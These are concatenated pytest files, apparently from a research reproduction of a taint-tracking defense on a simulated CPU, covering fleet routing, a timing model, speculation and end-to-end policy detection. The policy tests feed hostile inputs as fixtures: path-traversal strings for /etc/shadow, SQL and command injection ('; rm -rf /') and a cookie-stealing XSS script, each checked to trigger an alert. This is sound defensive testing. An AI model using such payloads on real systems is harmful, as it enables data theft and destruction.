        with pytest.raises(ValueError):
            FleetFrontend(["a"], policy="random")
        with pytest.raises(ValueError):
            FleetFrontend([])
        with pytest.raises(ValueError):
            FleetFrontend(["a", "a"])


class TestFrontendLifecycle:
    def test_depths_snapshots_every_slot(self):
        fe = FleetFrontend(["a", "b"])
        fe.submit(b"r1")
        fe.eject("b", "sick")
        depths = fe.depths()
        assert depths["a"] == {"queued": 1, "queued_bytes": 2,
                               "healthy": True, "draining": False,
                               "routable": True}
        assert depths["b"]["healthy"] is False
        assert depths["b"]["routable"] is False
        assert fe.total_queued == 1
        assert fe.routable_count == 1

    def test_affinity_key_overrides_payload_hash(self):
        fe = FleetFrontend(["a", "b", "c", "d"], policy="hash", seed=2)
        targets = {fe.submit(bytes([i]), key=b"session-9")
                   for i in range(8)}
        assert len(targets) == 1  # distinct payloads, one key, one home

    def test_add_worker_only_steals_keys_it_now_owns(self):
        keys = [f"session-{i}".encode() for i in range(60)]
        fe = FleetFrontend(["a", "b"], policy="hash", seed=4)
        before = {k: fe.submit(b"r", key=k) for k in keys}
        fe2 = FleetFrontend(["a", "b"], policy="hash", seed=4)
        fe2.add_worker("c")
        moved = 0
        for k in keys:
            after = fe2.submit(b"r", key=k)
            if after != before[k]:
                assert after == "c"  # consistent hashing: moves only to c
                moved += 1
        assert 0 < moved < len(keys)

    def test_drain_makes_worker_unroutable_then_retire(self):
        fe = FleetFrontend(["a", "b"], policy="hash", seed=1)
        fe.slots["a"].queue.append(b"old")
        fe.drain("a")
        assert not fe.slots["a"].routable
        assert fe.slots["a"].healthy  # draining is not unhealthy
        for i in range(10):
            assert fe.submit(f"r{i}".encode()) == "b"
        with pytest.raises(ValueError):
            fe.retire("a")  # queue not yet empty
        fe.slots["a"].queue.clear()
        fe.retire("a")
        assert fe.slots["a"].ejected_reason == "retired"
        assert fe.routable_count == 1

    def test_frontend_metrics_expose_drops_and_depths(self):
        from repro.fleet import frontend_metrics

        fe = FleetFrontend(["a", "b"], queue_capacity=1)
        fe.submit(b"r1")
        fe.submit(b"r2")
        fe.submit(b"r3")  # both full -> dropped
        flat = frontend_metrics(fe).to_dict()
        assert flat["frontend.dropped"] == 1
        assert flat["frontend.queued"] == 2
        assert flat["frontend.depth.a"] == 1
        assert flat["frontend.workers_routable"] == 2


class TestMidstreamEjection:
    """Health ejection after partial routing: orphans must re-route and
    the rerun must land on bit-identical results."""

    def test_eject_after_partial_routing_remaps_only_orphans(self):
        keys = [f"session-{i}".encode() for i in range(30)]
        fe = FleetFrontend(["a", "b", "c"], policy="hash", seed=6)
        first_half = {k: fe.submit(b"r", key=k) for k in keys[:15]}
        victim = first_half[keys[0]]
        orphans = fe.eject(victim, "watchdog")
        assert len(orphans) == sum(
            1 for t in first_half.values() if t == victim)
        for k in keys:  # late arrivals and orphans avoid the victim
            assert fe.submit(b"r", key=k) != victim

    def test_raise_fleet_reroute_is_digest_identical(self):
        config = FleetConfig(engine_mode="raise", recover_watchdog=None)
        batch = [make_request(4) for _ in range(6)]
        batch.insert(1, traversal_request())  # clean request queued behind
        driver = FleetDriver(config, workers=3, seed=0)
        first = driver.run(batch)
        second = driver.run(batch)
        assert first.ejected and first.rerouted >= 1
        assert first.digest() == second.digest()

    def test_rerouted_responses_match_healthy_fleet(self):
        # The clean requests a dying worker orphaned must come back
        # byte-identical to what an attack-free fleet serves.
        clean = [make_request(4) for _ in range(6)]
        attacked = list(clean)
        attacked.insert(1, traversal_request())
        raise_config = FleetConfig(engine_mode="raise",
                                   recover_watchdog=None)
        hurt = FleetDriver(raise_config, workers=3, seed=0).run(attacked)
        calm = FleetDriver(FleetConfig(), workers=3, seed=0).run(clean)
        def bodies(result):
            # The dying worker logs an empty buffer for the attack
            # itself; only full 200 responses are comparable.
            out = []
            for w in result.workers:
                out.extend(bytes(r) for r in w["responses"]
                           if bytes(r).startswith(b"HTTP/1.0 200"))
            return sorted(out)
        assert hurt.ejected and hurt.rerouted >= 1
        assert bodies(hurt) == bodies(calm)


class TestBoundedSimNetwork:
    def test_capacity_refuses_and_counts(self):
        net = SimNetwork(capacity=2)
        assert net.add_request(b"a") is not None
        assert net.add_request(b"b") is not None
        assert net.add_request(b"c") is None
        assert net.dropped == 1
        assert len(net.pending) == 2

    def test_capacity_must_be_positive(self):
        with pytest.raises(ValueError):
            SimNetwork(capacity=0)

    def test_drops_surface_in_machine_metrics(self):
        machine = build_web_machine(net_capacity=1)
        machine.net.add_request(make_request(4))
        assert machine.net.add_request(make_request(4)) is None
        flat = machine.metrics().to_dict()
        assert flat["net.dropped"] == 1
        assert flat["net.capacity"] == 1
        assert flat["net.pending"] == 1


class TestTracePathUniquing:
    def test_explicit_ids_get_distinct_files(self, tmp_path):
        path = str(tmp_path / "trace.jsonl")
        a = build_web_machine(machine_id="w0", tracing=True, trace_path=path)
        b = build_web_machine(machine_id="w1", tracing=True, trace_path=path)
        assert a.trace_path == str(tmp_path / "trace.w0.jsonl")
        assert b.trace_path == str(tmp_path / "trace.w1.jsonl")

    def test_second_live_machine_cannot_clobber(self, tmp_path):
        path = str(tmp_path / "trace.jsonl")
        a = build_web_machine(tracing=True, trace_path=path)
        b = build_web_machine(tracing=True, trace_path=path)
        assert a.trace_path == path
        assert b.trace_path != path
        assert b.trace_path.endswith(".jsonl")

    def test_traces_actually_land_in_their_own_files(self, tmp_path):
        path = str(tmp_path / "trace.jsonl")
        machines = [
            build_web_machine(machine_id=f"w{i}", tracing=True,
                              trace_path=path)
            for i in range(2)
        ]
        for m in machines:
            m.net.add_request(make_request(4))
            m.run(max_instructions=100_000_000)
            m.obs.export()
        files = sorted(p.name for p in tmp_path.iterdir())
        assert files == ["trace.w0.jsonl", "trace.w1.jsonl"]
        for p in tmp_path.iterdir():
            assert p.read_text().strip()


class TestFleetDriver:
    def test_round_robin_fleet_serves_everything(self):
        driver = FleetDriver(FleetConfig(), workers=2, seed=0)
        result = driver.run([make_request(4) for _ in range(6)])
        assert result.routed == {"w0": 3, "w1": 3}
        assert result.served == 6
        assert result.quarantined == 0
        assert not result.ejected
        assert result.sim_cycles == max(w["cycles"] for w in result.workers)

    def test_fixed_seed_is_bit_reproducible(self):
        driver = FleetDriver(FleetConfig(), workers=2, routing="hash", seed=5)
        batch = [f"GET /file4k.bin HTTP/1.0\r\nX: {i}\r\n\r\n".encode()
                 for i in range(6)]
        assert driver.run(batch).digest() == driver.run(batch).digest()

    def test_recover_fleet_quarantines_attacks(self):
        driver = FleetDriver(FleetConfig(), workers=2, seed=0)
        batch = [make_request(4) for _ in range(6)]
        batch.insert(1, traversal_request())
        batch.insert(4, traversal_request())
        result = driver.run(batch)
        assert result.served == 6
        assert result.quarantined == 2
        assert not result.ejected
        incidents = result.incidents()
        assert {i["worker"] for i in incidents} <= {"w0", "w1"}
        assert all(i["policy_id"] == "H2" for i in incidents)

    def test_raise_fleet_ejects_and_reroutes(self):
        config = FleetConfig(engine_mode="raise", recover_watchdog=None)
        batch = [make_request(4) for _ in range(6)]
        batch.insert(1, traversal_request())
        result = FleetDriver(config, workers=3, seed=0).run(batch)
        assert result.ejected == ["w1"]
        assert result.served == 6  # every clean request still answered
        assert result.rerouted >= 1
        assert result.unserved == 0

    def test_merged_metrics_and_incident_report(self):
        driver = FleetDriver(FleetConfig(), workers=2, seed=0)
        batch = [make_request(4) for _ in range(4)]
        batch.insert(2, traversal_request())
        result = driver.run(batch)
        flat = result.metrics().to_dict()
        assert flat["fleet.workers"] == 2
        assert flat["fleet.served"] == 4
        assert flat["fleet.quarantined"] == 1
        assert flat["net.completed"] == 4
        assert flat["cpu.instructions"] == sum(
            w["instructions"] for w in result.workers)
        report = incident_report(result)
        assert len(report["incidents"]) == 1
        assert report["incidents"][0]["policy_id"] == "H2"
        text = render_incidents(result)
        assert "quarantined request" in text and "H2" in text

    def test_incident_names_worker_request_and_origin(self):
        driver = FleetDriver(FleetConfig(tracing=True), workers=2, seed=0)
        batch = [make_request(4) for _ in range(2)]
        batch.insert(1, traversal_request())
        result = driver.run(batch)
        (incident,) = result.incidents()
        assert incident["worker"] in ("w0", "w1")
        assert incident["request_index"] == 1
        assert incident["origins"], "tracing fleets must record origins"
        assert "network" in incident["origins"][0]

    def test_tagged_messages_route_like_bytes(self):
        driver = FleetDriver(FleetConfig(), workers=2, seed=0)
        batch = [
            TaggedMessage.from_flags(make_request(4),
                                     [True] * len(make_request(4)))
            for _ in range(4)
        ]
        result = driver.run(batch)
        assert result.served == 4


class TestMultiprocessing:
    def test_process_driver_matches_inline_digest(self):
        driver = FleetDriver(FleetConfig(), workers=2, seed=0)
        batch = [make_request(4) for _ in range(4)]
        inline = driver.run(batch)
        forked = driver.run(batch, processes=True)
        assert forked.served == 4
        assert forked.digest() == inline.digest()


class TestTwoTier:
    def test_transported_tags_are_load_bearing(self):
        exp = two_tier_experiment(clean=2, attacks=1, proxy_workers=1,
                                  seed=0)
        tagged, control = exp["tagged"], exp["control"]
        # With tags: the backend catches the traversal it could not
        # otherwise see (its own ingress is trusted).
        assert tagged["tier2"]["detected_h2"] == 1
        assert tagged["tier2"]["quarantined"] == 1
        assert tagged["tier2"]["served"] == 2
        assert not tagged["tier2"]["secret_leaked"]
        # Without tags: same bytes sail through and the secret leaks.
        assert control["tier2"]["detected_h2"] == 0
        assert control["tier2"]["served"] == 3
        assert control["tier2"]["secret_leaked"]
        assert control["tier2"]["alerts"] == []
        assert exp["proof"] is True
