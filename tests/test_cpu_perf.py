"""Issue-group timing model tests."""

from repro.cpu.perf import IssueConfig, IssueModel, PerfCounters
from repro.isa import parse_instruction
from repro.isa.instruction import ROLE_TAG_COMPUTE, ROLE_TAG_MEM


def issue_all(lines, config=None):
    counters = PerfCounters()
    model = IssueModel(counters, config)
    for line in lines:
        model.issue(parse_instruction(line))
    model.flush()
    return counters


class TestGrouping:
    def test_independent_ops_share_group(self):
        c = issue_all([
            "add r14 = r15, r16",
            "add r17 = r18, r19",
            "add r20 = r21, r22",
        ])
        assert c.groups == 1
        assert c.issue_cycles == 1.0

    def test_dependency_splits_group(self):
        c = issue_all([
            "add r14 = r15, r16",
            "add r17 = r14, r19",  # reads r14
        ])
        assert c.groups == 2

    def test_write_after_write_splits(self):
        c = issue_all([
            "add r14 = r15, r16",
            "add r14 = r18, r19",
        ])
        assert c.groups == 2

    def test_width_limit(self):
        lines = [f"add r{14 + i} = r0, r0" for i in range(7)]
        c = issue_all(lines, IssueConfig(width=6))
        assert c.groups == 2

    def test_mem_port_limit(self):
        c = issue_all([
            "ld8 r14 = [r20]",
            "ld8 r15 = [r21]",
            "ld8 r16 = [r22]",  # third memory op: new group
        ], IssueConfig(mem_ports=2))
        assert c.groups == 2

    def test_r0_never_conflicts(self):
        c = issue_all([
            "add r14 = r0, r0",
            "add r15 = r0, r0",
        ])
        assert c.groups == 1

    def test_cmp_and_branch_same_group(self):
        counters = PerfCounters()
        model = IssueModel(counters)
        model.issue(parse_instruction("cmp.eq p6, p7 = r14, r15"))
        model.issue(parse_instruction("(p6) br.cond x"), taken_branch=False)
        model.flush()
        assert counters.groups == 1

    def test_movl_occupies_two_slots(self):
        # Three movl (2 slots each) exceed a 6-wide group boundary.
        lines = ["movl r14 = 1", "movl r15 = 2", "movl r16 = 3", "movl r17 = 4"]
        c = issue_all(lines, IssueConfig(width=6))
        assert c.groups == 2


class TestAccounting:
    def test_stall_cycles_recorded(self):
        counters = PerfCounters()
        model = IssueModel(counters)
        model.issue(parse_instruction("ld8 r14 = [r20]"), mem_stall=120)
        model.flush()
        assert counters.stall_cycles == 120
        assert counters.cycles == 121

    def test_branch_penalty(self):
        counters = PerfCounters()
        model = IssueModel(counters, IssueConfig(branch_penalty=3))
        model.issue(parse_instruction("br target"), taken_branch=True)
        model.flush()
        assert counters.branch_penalty_cycles == 3
        assert counters.branches_taken == 1

    def test_load_store_counts(self):
        c = issue_all(["ld8 r14 = [r20]", "st8 [r21] = r14"])
        assert c.loads == 1
        assert c.stores == 1

    def test_io_cycles(self):
        counters = PerfCounters()
        counters.add_io_cycles(500)
        assert counters.io_cycles == 500
        assert counters.cycles == 500


class TestRoleAttribution:
    def test_group_cycle_split_among_members(self):
        counters = PerfCounters()
        model = IssueModel(counters)
        user = parse_instruction("add r14 = r15, r16")
        instr = parse_instruction("add r17 = r18, r19").with_role(
            ROLE_TAG_COMPUTE, "load")
        model.issue(user)
        model.issue(instr)
        model.flush()
        assert counters.pair(None, None).issue_cycles == 0.5
        assert counters.pair(ROLE_TAG_COMPUTE, "load").issue_cycles == 0.5

    def test_role_cycles_aggregation(self):
        counters = PerfCounters()
        model = IssueModel(counters)
        model.issue(parse_instruction("ld8 r14 = [r20]").with_role(
            ROLE_TAG_MEM, "load"), mem_stall=10)
        model.flush()
        assert counters.role_cycles(ROLE_TAG_MEM) == 11
        assert counters.origin_cycles("load") == 11
        assert counters.instrumentation_cycles() == 11

    def test_serial_chain_charged_more_per_instruction(self):
        # A serial chain: each instruction gets its own group (1 cycle
        # each); independent code shares groups (fractional cycles).
        serial = issue_all([
            "add r14 = r15, r16",
            "add r14 = r14, r16",
            "add r14 = r14, r16",
        ])
        parallel = issue_all([
            "add r14 = r15, r16",
            "add r17 = r18, r19",
            "add r20 = r21, r22",
        ])
        assert serial.issue_cycles == 3.0
        assert parallel.issue_cycles == 1.0
