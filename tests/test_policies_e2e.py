"""End-to-end policy detection: each Table 1 policy caught in a guest."""

import pytest

from repro.taint.engine import SecurityAlert
from repro.taint.policy import PolicyConfig
from tests.conftest import BYTE_STRICT, WORD_STRICT, run_minic

READ = "native int read(int fd, char *buf, int n);\n"


def expect_alert(policy_id, source, *, config=None, stdin=b"", files=None,
                 options=BYTE_STRICT):
    with pytest.raises(SecurityAlert) as excinfo:
        run_minic(source, options, stdin=stdin, files=files,
                  policy_config=config or PolicyConfig())
    assert excinfo.value.policy_id == policy_id
    return excinfo.value


class TestLowLevelPolicies:
    def test_l1_tainted_load_address(self):
        expect_alert("L1", READ + """
        char src[16];
        int main() {
            read(0, src, 8);
            int *p = (int *)(src[0] * 65536);
            return *p;
        }
        """, stdin=b"\x42")

    def test_l2_tainted_store_address(self):
        expect_alert("L2", READ + """
        char src[16];
        int main() {
            read(0, src, 8);
            int *p = (int *)atoi(src);
            *p = 1;
            return 0;
        }
        """, stdin=b"4611686018427387904")

    def test_l3_tainted_branch_target(self):
        expect_alert("L3", READ + """
        char src[16];
        int main() {
            read(0, src, 8);
            int fp = atoi(src);
            return __icall(fp);
        }
        """, stdin=b"12345")

    def test_l1_works_at_word_level(self):
        expect_alert("L1", READ + """
        char src[16];
        int main() {
            read(0, src, 8);
            int *p = (int *)(src[0] * 65536);
            return *p;
        }
        """, stdin=b"\x42", options=WORD_STRICT)

    def test_disabled_l1_does_not_alert(self):
        config = PolicyConfig().disable("L1")
        # The hardware fault still terminates the guest, but no
        # SecurityAlert is raised.
        from repro.cpu.faults import NaTConsumptionFault
        with pytest.raises(NaTConsumptionFault):
            run_minic(READ + """
            char src[16];
            int main() {
                read(0, src, 8);
                int *p = (int *)(src[0] * 65536);
                return *p;
            }
            """, BYTE_STRICT, stdin=b"\x42", policy_config=config)


class TestHighLevelPolicies:
    def test_h1_absolute_path(self):
        expect_alert("H1", READ + """
        native int open(char *p, int f);
        char src[64];
        int main() {
            read(0, src, 32);
            return open(src, 0);
        }
        """, config=PolicyConfig().enable("H1"), stdin=b"/etc/passwd")

    def test_h2_traversal(self):
        expect_alert("H2", READ + """
        native int open(char *p, int f);
        char src[64];
        char path[128];
        int main() {
            read(0, src, 32);
            strcpy(path, "/www/");
            strcat(path, src);
            return open(path, 0);
        }
        """, config=PolicyConfig().enable("H2"), stdin=b"../../etc/shadow")

    def test_h3_sql_injection(self):
        expect_alert("H3", READ + """
        native int sql_exec(char *q);
        char src[64];
        char query[128];
        int main() {
            read(0, src, 32);
            strcpy(query, "SELECT * FROM t WHERE name = '");
            strcat(query, src);
            strcat(query, "'");
            return sql_exec(query);
        }
        """, config=PolicyConfig().enable("H3"), stdin=b"x' OR 'a'='a")

    def test_h4_command_injection(self):
        expect_alert("H4", READ + """
        native int system(char *c);
        char src[64];
        char cmd[128];
        int main() {
            read(0, src, 32);
            strcpy(cmd, "cat ");
            strcat(cmd, src);
            return system(cmd);
        }
        """, config=PolicyConfig().enable("H4"), stdin=b"log.txt; rm -rf /")

    def test_h5_xss(self):
        source = READ + """
        native int accept();
        native int recv(int fd, char *b, int n);
        native int send(int fd, char *b, int n);
        char req[128];
        char resp[256];
        int main() {
            int fd = accept();
            int n = recv(fd, req, 100);
            req[n] = 0;
            strcpy(resp, "<html>");
            strcat(resp, req);
            strcat(resp, "</html>");
            send(fd, resp, strlen(resp));
            return 0;
        }
        """
        from repro.core.shift import build_machine
        machine = build_machine(source, BYTE_STRICT,
                                policy_config=PolicyConfig().enable("H5"))
        machine.net.add_request(b"<script>steal(document.cookie)</script>")
        with pytest.raises(SecurityAlert) as excinfo:
            machine.run()
        assert excinfo.value.policy_id == "H5"

    def test_benign_inputs_raise_nothing(self):
        source = READ + """
        native int open(char *p, int f);
        native int sql_exec(char *q);
        char src[64];
        char query[128];
        int main() {
            read(0, src, 32);
            strcpy(query, "SELECT * FROM t WHERE id = '");
            strcat(query, src);
            strcat(query, "'");
            sql_exec(query);
            return 0;
        }
        """
        config = PolicyConfig().enable("H1", "H2", "H3", "H4", "H5")
        machine = run_minic(source, BYTE_STRICT, stdin=b"12345",
                            policy_config=config)
        assert not machine.alerts
