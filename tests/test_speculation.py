"""repro.spec: speculative fast-path execution under taint-range guards.

The load-bearing claims tested here:

* :class:`~repro.spec.watch.TaintWatch` digests the tag bitmap into
  merged data ranges at both granularities, including taint that
  straddles a tag-page boundary, and refuses fragmented bitmaps;
* an epoch whose tainted bytes are all freed *mid-speculation* commits
  as ``taint-drained`` at the next boundary instead of rolling back;
* a taint source firing inside an epoch (the first speculative
  instruction of a request is the ``recv`` that taints the buffer)
  trips the taint-motion guard and the slice replays under tracking;
* speculative serving is observably identical to always-on tracking —
  responses, alerts with pcs, and taint origins — on both the clean
  and the seeded-misspeculation mixes;
* deferred sends from a rolled-back epoch never reach the wire: the
  two-tier fleet proof holds bit-for-bit under a speculating backend
  (no phantom bytes on misspeculation).
"""

import pytest

from repro.apps.specstore import (
    BENIGN_VALUE,
    contained_mix,
    misspec_mix,
    stor_request,
    sum_request,
)
from repro.compiler.instrument import ShiftOptions
from repro.core.shift import build_machine
from repro.harness.runners import build_web_machine, specstore_policy
from repro.spec import SPEC_MAX_RANGES, TaintWatch
from repro.taint.policy import PolicyConfig

BYTE_STRICT = ShiftOptions(granularity=1)
WORD = ShiftOptions(granularity=8)

TINY = "int main() { return 7; }"

#: Taint-then-free service: 'T' taints a slab, 'F' clears exactly the
#: tainted bytes host-side via the memset native (the drain happens
#: *inside* a speculation epoch), anything else answers PONG.
DRAIN_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int taint_region(char *p, int n);

char req[256];
char slab[64];

int serve(int fd) {
    int n = recv(fd, req, 200);
    if (n <= 0) {
        return 0;
    }
    req[n] = 0;
    if (req[0] == 'T') {
        int i = 0;
        while (i < 16) {
            slab[i] = 'x';
            i++;
        }
        taint_region(slab, 16);
        send(fd, "OK\\n", 3);
        return 1;
    }
    if (req[0] == 'F') {
        memset(slab, 0, 16);
        send(fd, "CLEARED\\n", 8);
        return 1;
    }
    send(fd, "PONG\\n", 5);
    return 1;
}

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        serve(fd);
    }
    return 0;
}
"""


#: Plain echo: every request is tainted at the ``recv`` source, so the
#: second request's taint import is the *first* speculative native of
#: its epoch — and it widens taint past the watch built from the first.
ECHO_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);

char req[256];

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        int n = recv(fd, req, 200);
        if (n > 0) {
            send(fd, req, n);
        }
    }
    return 0;
}
"""


def _quiet_policy() -> PolicyConfig:
    config = PolicyConfig()
    config.tainted_sources["network"] = False
    config.tainted_sources["file"] = False
    return config


def _tainted_net_policy() -> PolicyConfig:
    config = PolicyConfig()
    config.tainted_sources["network"] = True
    config.tainted_sources["file"] = False
    return config


def _spec_events(machine, action=None):
    events = [e for e in machine.obs.tracer.events() if e.KIND == "spec"]
    if action is not None:
        events = [e for e in events if e.action == action]
    return events


def _run_specstore(adaptive, requests, *, options=BYTE_STRICT,
                   policy=None, engine="predecoded"):
    machine = build_web_machine(
        "specstore", options,
        policy_config=policy if policy is not None else specstore_policy(),
        files={}, engine=engine, engine_mode="record",
        adaptive=adaptive, tracing=True)
    for payload in requests:
        machine.net.add_request(payload)
    served = machine.run(max_instructions=2_000_000_000)
    return machine, served


def _digest(machine):
    return (
        [bytes(c.outbound) for c in machine.net.completed],
        [(a.policy_id, a.pc, a.message) for a in machine.alerts],
        [(o.source, o.label, o.index, o.start, o.length)
         for o in machine.obs.provenance.origins],
    )


# -- the taint watch --------------------------------------------------------


class TestTaintWatch:
    @pytest.mark.parametrize("options", [BYTE_STRICT, WORD],
                             ids=["byte", "word"])
    def test_range_straddling_tag_page_boundary(self, options):
        # Tag offsets 4088..4104 span two tag pages; the watch must
        # merge the per-page runs into one contiguous guarded range.
        machine = build_machine(TINY, options,
                                policy_config=_quiet_policy())
        lo = 4095 << 3
        machine.taint_map.set_range(lo, 16, True)
        watch = TaintWatch.build(machine, SPEC_MAX_RANGES)
        assert watch is not None
        assert len(watch.linear_ranges) == 1
        assert watch.intersects(lo, lo + 16)
        assert watch.intersects(lo + 8, lo + 9)  # across the boundary
        assert watch.contains_linear(lo, lo + 16)
        assert not watch.intersects(lo + 1024, lo + 1040)
        # A sound superset: the tag-byte widening may guard a few
        # bytes around the tainted span, never fewer.
        assert watch.guarded_bytes >= 16

    def test_fragmented_bitmap_refused(self):
        machine = build_machine(TINY, BYTE_STRICT,
                                policy_config=_quiet_policy())
        # One granule per tag page: unmergeable, > SPEC_MAX_RANGES.
        for i in range(SPEC_MAX_RANGES + 4):
            machine.taint_map.set_range(i * (4096 << 3), 1, True)
        assert TaintWatch.build(machine, SPEC_MAX_RANGES) is None

    def test_empty_bitmap_builds_empty_watch(self):
        machine = build_machine(TINY, BYTE_STRICT,
                                policy_config=_quiet_policy())
        watch = TaintWatch.build(machine, SPEC_MAX_RANGES)
        assert watch is not None and watch.ranges == []


# -- epoch lifecycle --------------------------------------------------------


class TestEpochLifecycle:
    def test_taint_freed_mid_speculation_commits_drained(self):
        machine = build_machine(
            DRAIN_SOURCE, BYTE_STRICT, policy_config=_quiet_policy(),
            adaptive=True, adaptive_switching=True, speculative=True,
            tracing=True)
        for payload in (b"T", b"F", b"X"):
            machine.net.add_request(payload)
        machine.run(max_instructions=500_000_000)
        assert [bytes(c.outbound) for c in machine.net.completed] == [
            b"OK\n", b"CLEARED\n", b"PONG\n"]
        spec = machine.spec
        assert spec.rollbacks == 0
        drained = [e for e in _spec_events(machine, "commit")
                   if e.reason == "taint-drained"]
        assert drained, "the freed-slab epoch must commit as drained"
        # Once drained the machine is taint-free: no further epochs.
        assert machine.taint_map.live_granules == 0

    def test_source_fires_on_first_speculative_instruction(self):
        # Request 1 taints req[0..8); request 2's epoch opens at the
        # recv top with a watch over those 8 bytes, then recv — the
        # first speculative native of the epoch — imports 30 tainted
        # bytes past the watch: taint motion, rollback, replay.
        requests = [b"A" * 8, b"B" * 30, b"C" * 4]

        def run(adaptive):
            machine = build_machine(
                ECHO_SOURCE, BYTE_STRICT,
                policy_config=_tainted_net_policy(),
                adaptive=adaptive, adaptive_switching=adaptive,
                speculative=adaptive, tracing=True)
            for payload in requests:
                machine.net.add_request(payload)
            machine.run(max_instructions=500_000_000)
            return machine

        spec_m = run(True)
        track_m = run(False)
        trips = [e for e in _spec_events(spec_m, "rollback")
                 if e.reason == "taint-motion"]
        assert trips, "the widening recv import must trip the guard"
        assert spec_m.spec.rollbacks >= 1
        assert _digest(spec_m) == _digest(track_m)
        # The replayed echoes carry full per-request provenance.
        assert len(track_m.obs.provenance.origins) == len(requests)

    @pytest.mark.parametrize("engine", ["predecoded", "reference"])
    def test_contained_mix_identical_and_faster(self, engine):
        requests = contained_mix(4)
        spec_m, spec_served = _run_specstore("speculate", requests,
                                             engine=engine)
        track_m, track_served = _run_specstore("track", requests,
                                               engine=engine)
        assert spec_served == track_served == len(requests)
        assert _digest(spec_m) == _digest(track_m)
        assert spec_m.spec.commits > 0
        assert spec_m.spec.rollbacks == 0
        assert spec_m.counters.cycles < track_m.counters.cycles

    @pytest.mark.parametrize("options", [BYTE_STRICT, WORD],
                             ids=["byte", "word"])
    def test_misspec_replay_digest_equal(self, options):
        requests = misspec_mix(2)
        spec_m, _ = _run_specstore("speculate", requests, options=options)
        track_m, _ = _run_specstore("track", requests, options=options)
        # GET 0 (benign watched read) + EXEC 0 (real H4 injection).
        assert spec_m.spec.rollbacks == 2
        assert [a.policy_id for a in spec_m.alerts] == ["H4"]
        assert _digest(spec_m) == _digest(track_m)

    def test_spec_metrics_exported(self):
        spec_m, _ = _run_specstore("speculate", contained_mix(2))
        snapshot = spec_m.metrics().to_dict()
        assert snapshot["adaptive.spec.epochs"] == spec_m.spec.epochs
        assert snapshot["adaptive.spec.commits"] == spec_m.spec.commits
        assert snapshot["adaptive.spec.rollbacks"] == 0


# -- fleet integration ------------------------------------------------------


class TestFleetSpeculation:
    def test_worker_summary_carries_spec_stats(self):
        from repro.fleet.driver import FleetConfig, run_worker

        config = FleetConfig(variant="specstore", options=BYTE_STRICT,
                             policy=specstore_policy(),
                             engine_mode="record", recover_watchdog=None,
                             adaptive="speculate")
        summary, machine = run_worker(
            config, "w0",
            [(stor_request(0, BENIGN_VALUE), None), (sum_request(), None)])
        assert summary["spec"] is not None
        assert summary["spec"]["epochs"] == machine.spec.epochs
        assert summary["metrics"]["adaptive.spec.commits"] == \
            machine.spec.commits

    def test_two_tier_no_phantom_bytes_on_misspeculation(self):
        # The deferred-send proof end to end: a speculating backend's
        # rolled-back epochs must leave *zero* bytes on the wire — the
        # responses of the speculate arm are digest-identical to the
        # plain arm, attacks included.
        from repro.fleet.tiers import run_two_tier

        plain = run_two_tier(clean=3, attacks=2, adaptive="none")
        spec = run_two_tier(clean=3, attacks=2, adaptive="speculate")
        assert plain["ok"] and spec["ok"]
        assert spec["tier2"]["spec"]["rollbacks"] > 0
        assert (spec["tier2"]["response_digests"]
                == plain["tier2"]["response_digests"])
        assert (spec["tier2"]["response_bytes"]
                == plain["tier2"]["response_bytes"])
        assert spec["tier2"]["detected_h2"] == plain["tier2"]["detected_h2"]
