"""Property-based CPU memory semantics: random store/load programs
executed on the simulator must agree with a reference memory model.
"""

from hypothesis import given, settings, strategies as st

from repro.cpu import CPU
from repro.isa import assemble
from repro.mem import REGION_DATA, SparseMemory, make_address

BASE = make_address(REGION_DATA, 0x8000)

_SIZES = {1: ("st1", "ld1"), 2: ("st2", "ld2"), 4: ("st4", "ld4"), 8: ("st8", "ld8")}

operations = st.lists(
    st.tuples(
        st.integers(min_value=0, max_value=120),  # offset
        st.sampled_from([1, 2, 4, 8]),  # size
        st.integers(min_value=0, max_value=(1 << 64) - 1),  # value
    ),
    min_size=1,
    max_size=10,
)


def _exit(cpu):
    cpu.halted = True


class TestStoreLoadAgainstReference:
    @settings(max_examples=40, deadline=None)
    @given(operations)
    def test_random_program_matches_reference(self, ops):
        # Build a guest program performing the stores, then loading each
        # touched location back into registers r40+.
        lines = ["func main:"]
        reference = bytearray(256)
        for offset, size, value in ops:
            store, _ = _SIZES[size]
            lines.append(f"    movl r14 = {BASE + offset}")
            lines.append(f"    movl r15 = {value}")
            lines.append(f"    {store} [r14] = r15")
            reference[offset:offset + size] = (value & ((1 << (8 * size)) - 1)) \
                .to_bytes(size, "little")
        checks = []
        for reg, (offset, size, _) in enumerate(ops[:8], start=40):
            _, load = _SIZES[size]
            lines.append(f"    movl r14 = {BASE + offset}")
            lines.append(f"    {load} r{reg} = [r14]")
            checks.append((reg, offset, size))
        lines.append("    break 0x100000")
        lines.append("endfunc")
        cpu = CPU(assemble("\n".join(lines)), SparseMemory(), syscall_handler=_exit)
        cpu.run(max_instructions=10_000)
        for reg, offset, size in checks:
            expected = int.from_bytes(reference[offset:offset + size], "little")
            assert cpu.read_gr(reg) == expected, (offset, size)

    @settings(max_examples=20, deadline=None)
    @given(operations)
    def test_guest_memory_matches_reference(self, ops):
        lines = ["func main:"]
        reference = bytearray(256)
        for offset, size, value in ops:
            store, _ = _SIZES[size]
            lines.append(f"    movl r14 = {BASE + offset}")
            lines.append(f"    movl r15 = {value}")
            lines.append(f"    {store} [r14] = r15")
            reference[offset:offset + size] = (value & ((1 << (8 * size)) - 1)) \
                .to_bytes(size, "little")
        lines.append("    break 0x100000")
        lines.append("endfunc")
        memory = SparseMemory()
        cpu = CPU(assemble("\n".join(lines)), memory, syscall_handler=_exit)
        cpu.run(max_instructions=10_000)
        assert memory.read_bytes(BASE, 256) == bytes(reference)
