"""Executor tests: ALU semantics, NaT propagation, faults, control flow."""

import pytest

from repro.cpu import CPU, MASK64, NaTConsumptionFault, RunawayError, to_signed
from repro.isa import assemble
from repro.mem import SparseMemory, make_address, REGION_DATA


def run_asm(text, setup=None, max_instructions=100_000):
    """Assemble, run to completion (via break exit), return the CPU."""
    program = assemble(text)
    memory = SparseMemory()
    cpu = CPU(program, memory, syscall_handler=_exit_syscall)
    if setup:
        setup(cpu)
    cpu.run(max_instructions=max_instructions)
    return cpu


def _exit_syscall(cpu):
    cpu.halted = True
    cpu.exit_code = cpu.read_gr(32)


EXIT = "break 0x100000"


class TestAluSemantics:
    def test_add(self):
        cpu = run_asm(f"""
